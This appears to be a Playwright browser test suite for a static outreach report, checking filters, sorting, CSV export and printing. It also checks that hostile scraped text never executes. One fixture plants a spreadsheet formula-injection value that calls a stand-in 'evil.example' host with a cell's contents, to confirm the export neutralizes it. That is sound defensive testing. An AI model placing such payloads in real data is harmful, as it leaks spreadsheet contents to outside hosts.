"""The outreach report in a real browser: Debian's Chromium driven headless by Playwright, pages opened
from file:// with no network. Checks that the pages run without errors, that filtering and sorting work,
and that hostile scraped text never executes. Screenshots go to test-artifacts/report/.

Playwright never downloads a browser here: it launches the system `chromium` (installed by
scripts/ensure_chromium.sh in `make test` and by .ci/run)."""

from __future__ import annotations

import os
import shutil
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.test_report import HOSTILE, make_hostile_home, query
from warehouse.paths import WarehousePaths
from warehouse.report import build_report

pytestmark = pytest.mark.slow

ARTIFACTS = Path(__file__).resolve().parents[1] / "test-artifacts" / "report"


def _missing() -> str | None:
    if not shutil.which("chromium"):
        return "chromium is not on PATH"
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "the playwright package is not installed (pip install -e '.[dev]')"
    return None


# Decided at import so a machine without a browser does not first build the session's sample warehouse.
if _missing() and not os.environ.get("CI"):
    pytest.skip(f"{_missing()}; install Debian's chromium to run the report's browser tests",
                allow_module_level=True)


@pytest.fixture(scope="module")
def browser() -> Iterator:
    missing = _missing()
    if missing:
        pytest.fail(f"{missing}: chromium must be installed in CI (Debian package `chromium`; "
                    "scripts/ensure_chromium.sh installs it)", pytrace=False)
    from playwright.sync_api import sync_playwright

    chromium = shutil.which("chromium")
    with sync_playwright() as p:
        # --no-sandbox: CI containers run as root, where Chromium's sandbox refuses to start.
        b = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield b
        b.close()


@pytest.fixture(scope="module")
def site(sample_home: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
    """The report of a copy of the sample warehouse with hostile text in one city: (home, site, geoid)."""
    home, geoid = make_hostile_home(sample_home, tmp_path_factory.mktemp("hostile_home"))
    out = tmp_path_factory.mktemp("browser_report")
    build_report(WarehousePaths(home), out)
    return home, out, geoid


class Watched:
    """A page with every console error, page error and dialog it produced."""

    def __init__(self, page) -> None:
        self.page = page
        self.errors: list[str] = []
        self.dialogs: list[str] = []
        page.on("console", lambda m: self.errors.append(f"console: {m.text}") if m.type == "error" else None)
        page.on("pageerror", lambda e: self.errors.append(f"pageerror: {e}"))
        page.on("dialog", self._dialog)

    def _dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def open(self, path: Path) -> None:
        self.page.goto(path.as_uri())
        self.page.wait_for_load_state("load")

    def check(self, shot: str) -> None:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=str(ARTIFACTS / shot), full_page=True)
        assert self.errors == [], self.errors
        assert self.dialogs == [], f"a script from the warehouse ran: {self.dialogs}"


@pytest.fixture
def page(browser) -> Iterator[Watched]:
    # Offline: any request that is not a local file fails the test through the route below.
    context = browser.new_context(viewport={"width": 1280, "height": 900}, java_script_enabled=True)
    requested: list[str] = []

    def route(r) -> None:
        if r.request.url.startswith(("file:", "data:")):
            r.continue_()
        else:
            requested.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    p = context.new_page()
    yield Watched(p)
    context.close()
    assert requested == [], f"the report fetched from the network: {requested}"


def visible_rows(page, table: str) -> list[dict[str, str]]:
    return page.eval_on_selector_all(
        f"#{table} tbody tr", "rows => rows.filter(r => !r.hidden).map(r => ({state: r.dataset.state || '', "
        "city: r.dataset.city || '', cells: Array.from(r.cells).map(c => c.dataset.v ?? c.textContent)}))")


def test_index(page, site):
    _, out, _ = site
    page.open(out / "index.html")
    assert page.page.locator("#sample-banner").is_visible()
    assert "SAMPLE DATA: synthetic cities" in page.page.locator("#sample-banner").inner_text()
    assert page.page.locator("svg.chart").count() == 4   # three bar charts and the state map
    assert page.page.locator("#cities tbody tr").count() == len(list((out / "cities").glob("*.html")))
    page.check("index.png")


def test_targets_filter_by_state(page, site):
    home, out, _ = site
    counts = Counter(r[0] for r in query(home, "SELECT state FROM marts.outreach_targets"))
    state, expected = counts.most_common(1)[0]
    total = sum(counts.values())
    assert expected < total, "the sample needs targets in more than one state"
    page.open(out / "targets.html")
    assert len(visible_rows(page.page, "targets")) == total
    page.page.select_option("select[data-filter=state]", state)
    rows = visible_rows(page.page, "targets")
    assert len(rows) == expected and {r["state"] for r in rows} == {state}
    assert page.page.inner_text("#targets-count") == f"{expected} of {total} targets shown"
    # The free-text city filter narrows further; Clear brings every row back.
    name = rows[0]["city"]
    page.page.fill("input[data-filter=city]", name[1:4].upper())
    narrowed = visible_rows(page.page, "targets")
    assert 1 <= len(narrowed) <= expected and all(name[1:4] in r["city"] for r in narrowed)
    page.page.click("form.filters button[type=reset]")
    # A locator assertion, not wait_for_function: the page's Content-Security-Policy forbids the eval
    # that wait_for_function relies on.
    from playwright.sync_api import expect

    expect(page.page.locator("#targets tbody tr:not([hidden])")).to_have_count(total)
    assert page.page.inner_text("#targets-count") == f"{total} of {total} targets shown"
    page.page.select_option("select[data-filter=state]", state)
    page.check("targets-filtered.png")


def test_targets_filters_live_in_the_address(page, site):
    """Filtering writes the filters into the fragment; opening that address (a bookmark, a link sent to a
    colleague) shows the same rows. The certified and partner filters work like the others."""
    home, out, _ = site
    rows = query(home, "SELECT state, certified_tier, wwc_partner FROM marts.outreach_targets")
    state = Counter(r[0] for r in rows).most_common(1)[0][0]
    page.open(out / "targets.html")
    page.page.select_option("select[data-filter=state]", state)
    page.page.select_option("select[data-filter=certified]", "none")
    expected = sum(1 for s, tier, _ in rows if s == state and tier is None)
    assert len(visible_rows(page.page, "targets")) == expected
    url = page.page.url
    assert url.endswith(f"#state={state}&certified=none"), url
    page.check("targets-filters-in-url.png")

    fresh = Watched(page.page.context.new_page())
    fresh.open(out / "targets.html")
    fresh.page.goto(url)
    fresh.page.reload()
    assert fresh.page.input_value("select[data-filter=state]") == state
    assert len(visible_rows(fresh.page, "targets")) == expected
    fresh.page.goto((out / "targets.html").as_uri() + "#partner=yes")
    fresh.page.reload()
    partners = sum(1 for _, _, p in rows if p)
    assert len(visible_rows(fresh.page, "targets")) == partners
    fresh.page.goto((out / "targets.html").as_uri() + "#state=ZZ")   # an old or edited link: not applied, and said
    fresh.page.reload()
    assert len(visible_rows(fresh.page, "targets")) == len(rows)
    assert "No state \u201cZZ\u201d" in fresh.page.locator("p.filter-notice").inner_text()
    fresh.check("targets-from-url.png")


def test_cities_not_yet_observed_are_listed_apart_and_filterable(page, site):
    """The List filter shows the cities whose practices could not be judged (unranked, with what to check),
    keeps the other filters, and is kept in the address only when it is not the ranked targets."""
    home, out, _ = site
    targets = len(query(home, "SELECT geoid FROM marts.outreach_targets"))
    unseen = query(home, "SELECT state, outreach_note FROM marts.outreach_not_observed")
    assert unseen, "the sample needs cities not yet observed"
    page.open(out / "targets.html")
    assert len(visible_rows(page.page, "targets")) == targets
    page.page.select_option("select[data-filter=status]", "not_observed")
    rows = visible_rows(page.page, "targets")
    assert len(rows) == len(unseen)
    assert page.page.inner_text("#targets-count") == f"{len(unseen)} of {len(unseen)} cities not yet observed shown"
    assert page.page.url.endswith("#status=not_observed")
    notes = page.page.locator("#targets tbody tr:not([hidden]) td.why").all_inner_texts()
    assert sorted(n.strip() for n in notes) == sorted(n for _, n in unseen)
    state = Counter(s for s, _ in unseen).most_common(1)[0][0]
    page.page.select_option("select[data-filter=state]", state)
    assert len(visible_rows(page.page, "targets")) == sum(1 for s, _ in unseen if s == state)
    page.page.select_option("select[data-filter=state]", "")
    longer = query(home, "SELECT outreach_note FROM marts.outreach_longer_path")
    page.page.select_option("select[data-filter=status]", "longer_path")
    assert len(visible_rows(page.page, "targets")) == len(longer) > 0
    notes = page.page.locator("#targets tbody tr:not([hidden]) td.why").all_inner_texts()
    assert sorted(n.strip() for n in notes) == sorted(n for (n,) in longer)
    page.page.select_option("select[data-filter=status]", "any")
    assert len(visible_rows(page.page, "targets")) == targets + len(longer) + len(unseen)
    page.page.select_option("select[data-filter=status]", "target")
    assert not page.page.url.split("#", 1)[1:] or page.page.url.endswith("#")
    page.check("targets-not-observed.png")


def test_the_data_dictionary_is_searchable(page, site):
    """The report's data dictionary: the search box narrows the columns to those whose table, name or
    description holds the words; the schema filter combines with it; the search lives in the address."""
    home, out, _ = site
    page.open(out / "dictionary.html")
    total = page.page.locator("#dictionary tbody tr").count()
    assert total > 500 and len(visible_rows(page.page, "dictionary")) == total
    page.page.fill("input[data-filter=text]", "Expected_Points")
    texts = page.page.locator("#dictionary tbody tr:not([hidden])").all_inner_texts()
    assert 3 <= len(texts) < total and all("expected_points" in t.lower() for t in texts)
    assert any("marts.city_index_latest" in t for t in texts)       # views carry the descriptions too
    page.page.select_option("select[data-filter=kind]", "view")
    views = page.page.locator("#dictionary tbody tr:not([hidden])").all_inner_texts()
    assert views and len(views) < len(texts) and not any(t.startswith("marts.city_index\t") for t in views)
    assert "text=expected_points" in page.page.url.lower()
    assert page.page.inner_text("#dictionary-count") == f"{len(views)} of {total} columns shown"
    page.check("dictionary-search.png")


def test_a_state_on_the_map_opens_its_targets(page, site):
    home, out, _ = site
    counts = Counter(r[0] for r in query(home, "SELECT state FROM marts.outreach_targets"))
    state, expected = counts.most_common(1)[0]
    page.open(out / "index.html")
    page.page.click(f'a.tile-link[href="targets.html#state={state}"]')
    page.page.wait_for_load_state("load")
    assert page.page.url.endswith(f"targets.html#state={state}")
    assert page.page.input_value("select[data-filter=state]") == state
    assert len(visible_rows(page.page, "targets")) == expected
    page.check("map-to-targets.png")


def test_data_docs_render_offline_from_the_report(page, sample_home, tmp_path):
    """The run's Great Expectations Data Docs, copied into the report: the index lists every suite and each
    page shows GX's rendering of its expectations, with nothing requested from the network (the page
    fixture fails the test on any request that is not a local file). GX's own inline scripts expect its
    CDN libraries, so their console errors are not this test's business."""
    out = tmp_path / "report"
    build_report(WarehousePaths(sample_home), out)
    page.open(out / "index.html")
    page.page.click('footer a[href="data-docs/index.html"]')
    page.page.wait_for_load_state("load")
    assert page.page.locator("tbody tr").count() == 6
    page.page.click('a[href="cities.html"]')
    page.page.wait_for_load_state("load")
    text = page.page.inner_text("body")
    assert "values must be unique" in text and "values must match this regular expression" in text
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.page.screenshot(path=str(ARTIFACTS / "data-docs-cities.png"), full_page=False)


def _download(page, tmp_path: Path, name: str, saved_as: str | None = None) -> list[list[str]]:
    """Click the page's CSV button and read the file it downloads (``saved_as``: the name it must save as)."""
    import csv

    with page.page.expect_download() as info:
        page.page.click("button[data-export-for]")
    download = info.value
    path = tmp_path / name
    download.save_as(path)
    if name.startswith("targets"):
        assert download.suggested_filename.startswith("cdpi-targets-") and download.suggested_filename.endswith(".csv")
    if saved_as is not None:
        assert download.suggested_filename == saved_as
    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))


def _cli_csv(home: Path, capsys, *args: str) -> list[list[str]]:
    """What `cdpi targets --format csv` writes for these arguments, every row (no limit)."""
    import csv

    from pipelines.cli import main as cli

    capsys.readouterr()
    assert cli(["targets", *args, "--format", "csv", "--limit", "100000", "--home", str(home)]) == 0
    return list(csv.reader(capsys.readouterr().out.splitlines()))


@pytest.fixture(scope="module")
def formula_site(sample_home: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
    """The report of a copy of the sample where one target of the state with the most targets has a why-call
    sentence a spreadsheet would run as a formula: (home, site, that state)."""
    import duckdb

    from tests.test_report import copy_home

    home = copy_home(sample_home, tmp_path_factory.mktemp("formula_home"))
    state, geoid = query(home, "SELECT state, min(geoid) FROM marts.outreach_targets GROUP BY state "
                               "ORDER BY count(*) DESC, state LIMIT 1")[0]
    con = duckdb.connect(str(WarehousePaths(home).published))
    try:
        con.execute("UPDATE marts.city_index SET why_call = ? WHERE geoid = ?",
                    ['=HYPERLINK("https://evil.example/?"&A1,"x")', geoid])
    finally:
        con.close()
    out = tmp_path_factory.mktemp("formula_report")
    build_report(WarehousePaths(home), out)
    return home, out, state


def test_download_the_rows_shown_as_csv(page, formula_site, tmp_path, capsys):
    """The CSV button writes the rows the filters leave with the values `cdpi targets --format csv` writes
    for them: the same columns (geoid, snapshot, run_id, is_sample, why_call_links with their URLs), a population
    apart from its band, gap names apart from the "core" badge, and formula-like text neutralized by the
    same rule; not the cells' display text. Built in the page (the CSP-strict page fetches nothing)."""
    home, out, state = formula_site
    page.open(out / "targets.html")
    page.page.select_option("select[data-filter=state]", state)
    label = query(home, "SELECT strftime(snapshot, '%Y-%m') FROM ops.latest_run")[0][0]
    table = _download(page, tmp_path, "targets.csv", f"cdpi-targets-{label}.csv")
    expected = _cli_csv(home, capsys, "--state", state)
    assert len(table) - 1 == len(visible_rows(page.page, "targets")) > 1
    assert table == expected
    header = table[0]
    assert header[:4] == ["rank", "city", "state", "population"]
    assert header[-5:] == ["geoid", "snapshot", "run_id", "is_sample", "expected_points"], "new columns at the end"
    why = [r[header.index("why_call")] for r in table[1:]]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")" in why, "neutralized as the CLI does"
    assert not [c for r in table for c in r if c[:1] and c[:1] in "=+@"], "a cell a spreadsheet would run"
    assert any("https://" in r[header.index("why_call_links")] for r in table[1:])
    # The lists kept apart export their own columns, as `cdpi targets --list` writes them.
    for status, listed in (("longer_path", "longer-path"), ("not_observed", "not-observed")):
        page.page.select_option("select[data-filter=state]", "")
        page.page.select_option("select[data-filter=status]", status)
        # Saved under a name of its own: downloads of two lists neither overwrite nor pass for each other.
        got = _download(page, tmp_path, f"targets-{status}.csv", f"cdpi-targets-{listed}-{label}.csv")
        want = _cli_csv(home, capsys, "--list", listed)
        # In the same order too: the page sorts the longer path as the command does (the rounded chance,
        # then geoid), so cities whose chances round alike come out alike.
        assert got == want and len(got) > 1
    # Every list at once: a first column says which list each row is from.
    page.page.select_option("select[data-filter=status]", "any")
    mixed = _download(page, tmp_path, "targets-any.csv", f"cdpi-targets-all-lists-{label}.csv")
    assert mixed[0][0] == "list" and {"geoid", "outreach_note", "why_call_links"} <= set(mixed[0])
    assert len(mixed) - 1 == len(visible_rows(page.page, "targets"))
    assert {r[0] for r in mixed[1:]} == {"targets", "longer-path", "not-observed"}
    # The overview's table has no values of its own: its export is its headings and cell text.
    page.open(out / "index.html")
    cities = _download(page, tmp_path, "cities.csv")
    assert len(cities) - 1 == page.page.locator("#cities tbody tr").count()
    page.check("cities-export.png")


def test_an_unknown_filter_in_the_address_says_so(page, site):
    """#state=ZZ (an old or mistyped link) does not silently show every target as if filtered: a notice says
    the report has no state ZZ and shows all states; an unknown filter name is named too. Choosing a filter
    on the page takes the notice away; a known value in other letter case still applies."""
    from playwright.sync_api import expect

    home, out, _ = site
    rows = query(home, "SELECT state FROM marts.outreach_targets")
    state = Counter(r[0] for r in rows).most_common(1)[0][0]
    page.open(out / "targets.html")
    page.page.goto((out / "targets.html").as_uri() + "#state=ZZ&partner=maybe&county=5")
    page.page.reload()
    notice = page.page.locator("p.filter-notice")
    expect(notice).to_be_visible()
    text = notice.inner_text()
    assert "No state \u201cZZ\u201d in this report: showing all states." in text
    assert "\u201cmaybe\u201d" in text and "partners and other cities" in text
    assert "no filter \u201ccounty\u201d" in text
    assert len(visible_rows(page.page, "targets")) == len(rows)
    page.check("targets-unknown-filter.png")
    page.page.select_option("select[data-filter=state]", state)
    expect(notice).to_be_hidden()
    page.page.goto((out / "targets.html").as_uri() + f"#state={state.lower()}")
    page.page.reload()
    assert page.page.input_value("select[data-filter=state]") == state
    assert len(visible_rows(page.page, "targets")) == sum(1 for (s,) in rows if s == state)
    assert page.page.locator("p.filter-notice:not([hidden])").count() == 0


@pytest.mark.parametrize("width", [1400, 1920])
def test_the_targets_table_is_readable_at_desktop_widths(browser, site, width):
    """"Why call" was cut off at the window's right edge (the table's scrollbar below every row) and could be
    squeezed to a word per line. Now its column is at least 22rem wide; at 1920px the whole table fits; at
    1400px it scrolls sideways in a box no taller than the window, so its scrollbar is on screen, and Rank and
    City stay in view while "Why call" is scrolled to."""
    _, out, _ = site
    context = browser.new_context(viewport={"width": width, "height": 1000})
    p = context.new_page()
    try:
        p.goto((out / "targets.html").as_uri())
        p.wait_for_load_state("load")
        wrap = p.locator(".table-wrap").first
        wrap.evaluate("w => w.scrollIntoView()")   # its top at the top of the window
        why = p.locator("#targets tbody tr:not([hidden]) td.why").first
        assert why.bounding_box()["width"] >= 22 * 16 - 1
        sizes = wrap.evaluate("w => ({scroll: w.scrollWidth, client: w.clientWidth})")
        if width >= 1920:
            assert sizes["scroll"] <= sizes["client"], sizes
        box = wrap.bounding_box()
        assert box["y"] + box["height"] <= 1000 + 1, "the table's own scrollbar is on screen"
        wrap.evaluate("w => { w.scrollLeft = w.scrollWidth; }")
        why_box, wrap_box = why.bounding_box(), wrap.bounding_box()
        assert why_box["x"] >= wrap_box["x"] and why_box["x"] + why_box["width"] <= wrap_box["x"] + wrap_box["width"] + 1
        for cell in ("td:nth-child(1)", "td.city"):
            b = p.locator(f"#targets tbody tr:not([hidden]) {cell}").first.bounding_box()
            assert wrap_box["x"] <= b["x"] < wrap_box["x"] + 200, (cell, b, wrap_box)
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        p.screenshot(path=str(ARTIFACTS / f"targets-{width}-scrolled.png"))
    finally:
        context.close()


def test_a_screen_of_the_targets_table_shows_many_cities(browser, site):
    """At 1280x900 a row carried the whole why-call sentence, its links and the gap names, so a screen of the
    table showed 2-4 cities. Each row is now one line (the gaps as id badges, the sentence cut with an
    ellipsis): the table's box, scrolled into view, shows at least 8 whole rows. Opening a row's why-call
    shows the whole sentence and its links, closing it folds them again; that needs no script."""
    _, out, _ = site
    for script in (True, False):
        context = browser.new_context(viewport={"width": 1280, "height": 900}, java_script_enabled=script)
        p = context.new_page()
        try:
            p.goto((out / "targets.html").as_uri())
            p.wait_for_load_state("load")
            wrap = p.locator(".table-wrap").first
            wrap.evaluate("w => w.scrollIntoView()")
            shown = wrap.evaluate("""w => {
                const box = w.getBoundingClientRect(), head = w.querySelector('thead').getBoundingClientRect();
                return Array.from(w.querySelectorAll('tbody tr')).filter(r => !r.hidden).filter(r => {
                    const b = r.getBoundingClientRect(); return b.top >= head.bottom - 1 && b.bottom <= box.bottom + 1;
                }).length; }""")
            assert shown >= 8, f"{shown} whole rows on a 1280x900 screen"
            row = p.locator("#targets tbody tr:not([hidden])").first
            summary, links = row.locator("td.why summary"), row.locator("td.why .why-links a")
            closed = row.bounding_box()["height"]
            line = summary.evaluate("s => parseFloat(getComputedStyle(s).lineHeight)")
            assert summary.bounding_box()["height"] <= line * 1.5, "the sentence is one line"
            assert links.count() > 0 and not links.first.is_visible()
            summary.click()
            assert links.first.is_visible() and row.bounding_box()["height"] > closed + 2 * line
            assert summary.evaluate("s => s.parentElement.tagName + ' ' + s.parentElement.open") == "DETAILS true"
            summary.click()
            assert not links.first.is_visible() and row.bounding_box()["height"] == closed
            gaps = row.locator("td.gaps summary")
            assert gaps.locator("span.gap").count() > 0
            assert gaps.bounding_box()["height"] <= line * 1.8, "the gap badges are one line"
            ARTIFACTS.mkdir(parents=True, exist_ok=True)
            p.screenshot(path=str(ARTIFACTS / f"targets-1280-{'js' if script else 'nojs'}.png"))
        finally:
            context.close()


def test_the_targets_page_prints_every_row_open(page, site):
    """On paper there is nothing to click: printed, every folded gap list and why-call is open (the print
    stylesheet, no script needed) and the table is not cut to its scrolling box. The script does the same
    on beforeprint for browsers without ::details-content, and folds them back after printing."""
    _, out, _ = site
    page.open(out / "targets.html")
    p = page.page
    links = p.locator("#targets tbody tr:not([hidden]) td.why .why-links a")
    names = p.locator("#targets tbody tr:not([hidden]) td.gaps details > div")
    assert links.count() > 0 and names.count() > 0
    assert not links.first.is_visible() and not names.first.is_visible()
    p.emulate_media(media="print")
    assert links.first.is_visible() and links.last.is_visible() and names.last.is_visible()
    sizes = p.locator(".table-wrap").first.evaluate("w => ({scroll: w.scrollHeight, client: w.clientHeight})")
    assert sizes["scroll"] <= sizes["client"] + 1, "the whole table prints, not its scrolling box"
    p.emulate_media(media="screen")
    assert not links.first.is_visible()
    count = "() => [document.querySelectorAll('#targets details').length, document.querySelectorAll('#targets details[open]').length]"
    total, opened = p.evaluate(count)
    assert total > 0 and opened == 0
    p.evaluate("() => window.dispatchEvent(new Event('beforeprint'))")
    assert p.evaluate(count) == [total, total]
    p.evaluate("() => window.dispatchEvent(new Event('afterprint'))")
    assert p.evaluate(count) == [total, 0]
    page.check("targets-print.png")


@pytest.mark.parametrize("column", ["P(next)", "Population"])
def test_targets_sort_by_a_numeric_column(page, site, column):
    _, out, _ = site
    page.open(out / "targets.html")
    headings = page.page.eval_on_selector_all("#targets thead th", "ths => ths.map(t => t.textContent.trim())")
    position = headings.index(column)
    header = page.page.locator("#targets thead th").nth(position)

    def values() -> list[float]:
        return [float(r["cells"][position]) for r in visible_rows(page.page, "targets") if r["cells"][position] != ""]

    header.locator("button").click()
    assert header.get_attribute("aria-sort") == "descending"
    got = values()
    assert got == sorted(got, reverse=True) and got[0] > got[-1]
    header.locator("button").click()
    assert header.get_attribute("aria-sort") == "ascending"
    assert values() == sorted(got)
    page.check(f"targets-sorted-{column.lower().replace('(', '').replace(')', '')}.png")


def test_city_page_with_hostile_text(page, site):
    _, out, geoid = site
    page.open(out / "cities" / f"{geoid}.html")
    assert page.page.locator("h1").inner_text().startswith(HOSTILE)
    assert HOSTILE in page.page.title()
    assert page.page.locator("a[href^='javascript:' i], a[href^=' javascript:' i], a[href^='data:' i]").count() == 0
    assert page.page.evaluate("document.querySelectorAll('main script, main img').length") == 0
    assert page.page.locator("svg.spark").count() == 1
    page.check("city-hostile.png")


def test_a_plain_city_page(page, site):
    home, out, geoid = site
    (other,) = query(home, "SELECT geoid FROM marts.outreach_targets WHERE geoid <> ? ORDER BY rank LIMIT 1",
                     [geoid])[0]
    page.open(out / "cities" / f"{other}.html")
    assert page.page.locator("table.criteria").count() >= 1
    page.check("city.png")


def test_validation_page(page, site):
    _, out, _ = site
    page.open(out / "validation.html")
    p = page.page
    svg = p.locator("svg.reliability")
    assert svg.count() == 1 and svg.is_visible()
    box = svg.bounding_box()
    assert box is not None and box["width"] > 100 and box["height"] > 100
    # Drawn, not only present: the bars have a size on screen.
    bar = p.locator("svg.reliability rect.rel-bar").first.bounding_box()
    assert bar is not None and bar["width"] > 0
    for table in ("#agreement-table", "#precision", "#held-out", "#trend-table"):
        assert p.locator(table).is_visible(), table
        assert p.locator(f"{table} tbody tr").count() >= 1, table
    assert p.locator("#caveat-sample").is_visible()
    assert p.locator("#fig-auc").inner_text() != "–"
    p.locator("#reliability details summary").click()
    assert p.locator("#bins").is_visible()
    page.check("validation.png")


def test_methodology_page_and_the_nav(page, site):
    _, out, _ = site
    page.open(out / "index.html")
    page.page.locator("header.site nav a", has_text="Methodology").click()
    page.page.wait_for_load_state("load")
    assert page.page.url.endswith("/methodology.html")
    assert page.page.locator("article.prose h1").inner_text() == "How the index works"
    assert page.page.locator("article.prose table").first.is_visible()
    page.page.locator("header.site nav a", has_text="How good is this index").click()
    page.page.wait_for_load_state("load")
    assert page.page.url.endswith("/validation.html")
    page.check("methodology-then-validation.png")
